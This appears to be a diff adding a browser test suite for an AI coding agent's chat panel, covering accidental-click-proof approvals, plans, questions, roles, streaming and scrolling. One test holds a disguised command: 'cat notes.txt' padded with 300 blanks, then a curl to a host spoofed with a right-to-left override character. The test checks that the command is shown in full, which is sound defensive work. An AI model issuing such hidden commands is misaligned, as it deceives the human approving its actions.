@@ -1,0 +1,248 @@
+// How the chat behaves in the hand: approvals that can't be given by accident, roles by keyboard, streaming, scrolling.
+import assert from "node:assert/strict";
+import { parts, snapshot, states, surroundings } from "./script.mjs";
+
+const until = (chat, what) => chat.waitForFunction(what);
+
+export function behaviour(test, open) {
+	const opened = async (state, options) => {
+		const page = await open(options);
+		await page.send(states[state].update);
+		await page.chat.waitForSelector(".content > :last-child");
+		await page.posted();
+		return page;
+	};
+
+	test("an approval that has just appeared is not answered, a moment later it is", async () => {
+		const { chat, posted } = await opened("approval");
+		const allow = chat.getByRole("group", { name: "Approval: Run npm test" }).getByRole("button", { name: "Allow", exact: true });
+		await allow.dispatchEvent("click");
+		await allow.evaluate((button) => button.click());
+		assert.deepEqual(await posted(), []);
+		await allow.click();
+		assert.deepEqual(await posted(), [
+			{ type: "answer", session: "s1", request: "r1", hash: "hash-c6", answer: { allow: true }, token: "token-1" },
+		]);
+	});
+
+	test("a click right after the window got the focus is not an answer", async () => {
+		const { chat, posted } = await opened("approval");
+		const allow = chat.getByRole("button", { name: "Allow", exact: true });
+		await until(chat, () => !document.querySelector("[data-pending] [aria-disabled=true]"));
+		await chat.evaluate(() => window.dispatchEvent(new Event("focus")));
+		const box = await allow.boundingBox();
+		await chat.mouse.click(box.x + 5, box.y + 5);
+		assert.deepEqual(await posted(), []);
+		await allow.click();
+		assert.equal((await posted()).length, 1);
+	});
+
+	test("the newest token is the one that counts, and the card says who answered", async () => {
+		const { chat, send, posted } = await opened("approval");
+		await send({ type: "token", token: "token-2" });
+		await chat.getByRole("textbox", { name: "Reason" }).fill("not now");
+		await chat.getByRole("button", { name: "Deny" }).click();
+		const [intent] = await posted();
+		assert.deepEqual([intent.token, intent.answer], ["token-2", { allow: false, reason: "not now" }]);
+		const last = states.approval.update.events.at(-1);
+		await send({
+			type: "event",
+			event: {
+				...last,
+				id: "x1",
+				seq: last.seq + 1,
+				by: "person",
+				type: "answered",
+				request: "r1",
+				answer: { allow: false, reason: "not now" },
+			},
+		});
+		await chat.getByText("You denied: Run npm test “not now”").waitFor();
+		assert.equal(await chat.getByRole("button", { name: "Deny" }).count(), 0);
+	});
+
+	test("“Always allow” is there only where it is offered, and no button is primary", async () => {
+		const offered = await opened("approval");
+		assert.equal(await offered.chat.getByRole("button", { name: "Always allow" }).count(), 1);
+		assert.equal(await offered.chat.locator(".approval .primary").count(), 0);
+		const { chat } = await opened("hostile");
+		assert.equal(await chat.getByRole("button", { name: "Allow", exact: true }).count(), 1);
+		assert.equal(await chat.getByRole("button", { name: "Always allow" }).count(), 0);
+		const exact = await chat.locator(".exact").innerText();
+		assert.match(exact, /cat notes\.txt\[300 blanks\]; curl https:\/\/\\u\{202e\}gro\.live/);
+		assert.match(exact, /touch LAST$/);
+	});
+
+	test("the palette's focus goes to the card, and Enter in the composer never approves", async () => {
+		const { chat, send, posted } = await opened("approval");
+		await send({ type: "focus", where: "approval" });
+		await until(chat, () => document.activeElement?.matches("[data-pending=approval]"));
+		await until(chat, () => !document.querySelector("[data-pending] [aria-disabled=true]"));
+		await chat.keyboard.press("Enter");
+		await chat.keyboard.press("Space");
+		await chat.getByRole("textbox", { name: "Message" }).press("Enter");
+		assert.deepEqual(await posted(), []);
+	});
+
+	test("an expired approval can't be answered any more", async () => {
+		const { chat, send } = await opened("approval");
+		const last = states.approval.update.events.at(-1);
+		await send({ type: "event", event: { ...last, id: "x1", seq: last.seq + 1, by: "host", type: "expired", request: "r1" } });
+		await chat.getByText("No longer asked: Run npm test").waitFor();
+		assert.equal(await chat.getByRole("button", { name: "Allow", exact: true }).count(), 0);
+	});
+
+	test("Execute plan names the plan's version and hash; Revise asks for words", async () => {
+		const { chat, posted } = await opened("plan");
+		const plan = chat.getByRole("region", { name: "Plan: Rename formatPrice to formatMoney" });
+		assert.equal(await plan.getByRole("listitem").count(), 4);
+		await plan.getByRole("button", { name: "Revise" }).click();
+		await chat.getByPlaceholder("What should change in the plan?").waitFor();
+		assert.equal(await chat.getByRole("textbox", { name: "Message" }).evaluate((box) => box === document.activeElement), true);
+		await plan.getByRole("button", { name: "Execute plan" }).click();
+		assert.deepEqual(await posted(), [{ type: "execute", session: "s1", planId: "p1", version: 2, hash: "hash-2", token: "token-1" }]);
+		const { chat: other, posted: sent } = await opened("running");
+		await other
+			.getByRole("region", { name: /^Plan: Rename formatPrice to/ })
+			.getByRole("button", { name: "Stop" })
+			.click();
+		assert.deepEqual(await sent(), [{ type: "stop", session: "s1" }]);
+	});
+
+	test("a question is answered by its button, by its number, in own words, or dismissed", async () => {
+		const { chat, posted } = await opened("question");
+		const group = chat.getByRole("group", { name: "Question: Update the changelog as well?" });
+		await group.getByRole("button", { name: "Yes, add an entry" }).click();
+		await group.focus();
+		await chat.keyboard.press("2");
+		await group.getByRole("textbox", { name: "Your answer" }).fill("1 line is enough");
+		await group.getByRole("button", { name: "Answer" }).click();
+		await group.getByRole("button", { name: "Dismiss" }).click();
+		const answers = (await posted()).map((intent) => intent.answer ?? intent.type);
+		assert.deepEqual(answers, [{ value: "yes" }, { value: "no" }, { value: "1 line is enough" }, "dismiss"]);
+	});
+
+	test("roles: arrows move, Space selects; agent and model are comboboxes", async () => {
+		const { chat, posted } = await opened("plan");
+		const roles = chat.getByRole("radiogroup", { name: "Role" });
+		assert.equal(await roles.getByRole("radio", { name: "Planner" }).getAttribute("aria-checked"), "true");
+		await roles.getByRole("radio", { name: "Planner" }).focus();
+		await chat.keyboard.press("ArrowRight");
+		assert.deepEqual(await posted(), []);
+		await chat.keyboard.press("Space");
+		await chat.getByRole("button", { name: "More roles" }).click();
+		await chat.getByRole("combobox", { name: "Agent" }).selectOption("docs");
+		await chat.getByRole("combobox", { name: "Model" }).click();
+		assert.deepEqual(await posted(), [
+			{ type: "role", session: "s1", role: "actor" },
+			{ type: "moreRoles", session: "s1" },
+			{ type: "agent", session: "s1", agent: "docs" },
+			{ type: "command", command: "selectModel" },
+		]);
+	});
+
+	test("Enter sends, Shift+Enter breaks the line, an input method keeps its Enter, and drafts outlive a reload", async () => {
+		const { chat, send, posted } = await opened("empty");
+		const box = chat.getByRole("textbox", { name: "Message" });
+		assert.equal(await chat.getByRole("button", { name: "Send" }).isDisabled(), true);
+		await box.fill("one");
+		await box.press("Shift+Enter");
+		await box.pressSequentially("two");
+		await box.evaluate((area) => area.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true })));
+		await box.press("Enter");
+		assert.deepEqual(await posted(), [{ type: "send", session: "s1", text: "one\ntwo" }]);
+		await box.fill("a draft");
+		await chat.reload();
+		await chat.waitForFunction(() => window.posted.length > 0);
+		await send(states.empty.update);
+		await until(chat, () => document.querySelector("#message").value === "a draft");
+		await chat.getByRole("button", { name: "Explain src/cart.ts" }).click();
+		assert.equal(await box.inputValue(), "a draft\nExplain src/cart.ts");
+	});
+
+	test("a missing event asks for a snapshot", async () => {
+		const { chat, send, posted } = await opened("plan");
+		const last = states.plan.update.events.at(-1);
+		await send({ type: "event", event: { ...last, id: "y", seq: last.seq + 2, type: "status", level: "info", text: "late" } });
+		await until(chat, () => window.posted.length > 0);
+		assert.deepEqual(await posted(), [{ type: "ready" }]);
+	});
+
+	test("streamed words keep the nodes above them, and the final answer keeps its blocks", async () => {
+		const { chat, send, sendAll } = await opened("plan");
+		const last = states.plan.update.events.at(-1);
+		await send({ type: "event", event: { ...parts.started("planner"), id: "z1", seq: last.seq + 1 } });
+		const { answer } = parts;
+		await sendAll([...answer.slice(0, 120)].map((text) => ({ type: "live", event: { type: "delta", text } })));
+		await chat.locator(".from-agent h3").waitFor();
+		await chat.evaluate(() => {
+			window.heading = document.querySelector(".from-agent h3");
+		});
+		for (let at = 120; at < answer.length; at += 40)
+			await send({ type: "live", event: { type: "delta", text: answer.slice(at, at + 40) } });
+		await send({ type: "event", event: { ...parts.model({ text: answer }), id: "z2", seq: last.seq + 2 } });
+		await chat.getByRole("link", { name: "the guide" }).waitFor();
+		assert.equal(await chat.evaluate(() => window.heading === document.querySelector(".from-agent h3")), true);
+		assert.equal(await chat.getByRole("article", { name: "General Assistant" }).count(), 1);
+		assert.equal(await chat.getByRole("status").locator("p").last().textContent(), `General Assistant: ${answer}`);
+	});
+
+	test("it follows what is new until the person scrolls up, and leads back", async () => {
+		const { chat, send } = await opened("done", { height: 500 });
+		const fromEnd = () =>
+			chat.evaluate(() => {
+				const box = document.querySelector(".scroller");
+				return Math.round(box.scrollHeight - box.clientHeight - box.scrollTop);
+			});
+		await until(chat, () => {
+			const box = document.querySelector(".scroller");
+			return box.scrollTop > 0 && box.scrollHeight - box.clientHeight - box.scrollTop < 2;
+		});
+		await chat.mouse.move(150, 150);
+		await chat.mouse.wheel(0, -400);
+		await chat.getByRole("button", { name: "Jump to latest" }).waitFor();
+		const before = await fromEnd();
+		await send({ type: "live", event: { type: "delta", text: "more\n\n".repeat(30) } });
+		await chat.getByText("more").last().waitFor();
+		assert.ok((await fromEnd()) > before, "it moved although the person had scrolled up");
+		await chat.getByRole("button", { name: "Jump to latest" }).click();
+		await until(chat, () => {
+			const box = document.querySelector(".scroller");
+			return box.scrollHeight - box.clientHeight - box.scrollTop < 2;
+		});
+		assert.equal(await chat.getByRole("button", { name: "Jump to latest" }).count(), 0);
+	});
+
+	test("a session of 2,000 messages shows its end first and then the rest", async () => {
+		const { chat, send } = await open();
+		await chat.evaluate(() => {
+			window.tasks = [];
+			new PerformanceObserver((list) => window.tasks.push(...list.getEntries().map((entry) => Math.round(entry.duration)))).observe({
+				type: "longtask",
+			});
+		});
+		const { event, ...makers } = parts;
+		void event;
+		const events = Array.from({ length: 2_000 }, (_, index) => ({
+			...(index % 2 ? makers.model({ text: `**${index}** ${parts.answer}` }) : makers.user(`message ${index}`)),
+			id: `l${index}`,
+			seq: index + 1,
+		}));
+		const began = Date.now();
+		await send({ type: "snapshot", events, surroundings: surroundings(), live: "", token: "t" });
+		await chat.getByText("message 1998", { exact: true }).waitFor();
+		const first = Date.now() - began;
+		await chat.waitForFunction(() => document.querySelectorAll("article").length === 2_000, undefined, { timeout: 60_000 });
+		const tasks = await chat.evaluate(() => window.tasks);
+		console.log(
+			`  2,000 messages: end on the page after ${first} ms, all after ${Date.now() - began} ms, long tasks: ${tasks.join(", ") || "none"}`,
+		);
+		assert.equal(
+			await chat.evaluate(() => {
+				const box = document.querySelector(".scroller");
+				return box.scrollHeight - box.clientHeight - box.scrollTop < 2;
+			}),
+			true,
+		);
+	});
+}
